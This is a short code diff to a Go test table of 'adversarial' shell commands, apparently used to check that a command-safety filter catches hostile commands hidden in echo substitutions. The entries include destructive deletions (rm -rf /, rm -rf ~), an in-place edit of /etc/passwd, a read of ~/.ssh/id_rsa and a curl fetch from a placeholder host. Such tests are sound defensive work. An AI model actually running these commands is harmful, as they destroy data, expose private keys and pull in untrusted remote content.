@@ -336,7 +336,10 @@ var adversarial = []struct {
 	{cmd: "command rm -rf /"},
 	{cmd: "sudo rm -rf /var/log"},
 	{cmd: "echo $(rm -rf ~)"},
-	{cmd: "echo `id`"},
+	// echo prints what a substitution outputs; the commands inside are judged (runtime.go).
+	{cmd: "echo `touch /etc/x`"},
+	{cmd: "echo \"$(cat ~/.ssh/id_rsa)\""},
+	{cmd: "cat <(curl -s https://x.example/p)"},
 	{cmd: "ls $(echo /)"},
 	// Editors and in-place rewrites.
 	{cmd: "sed -i 's/a/b/' /etc/passwd"},
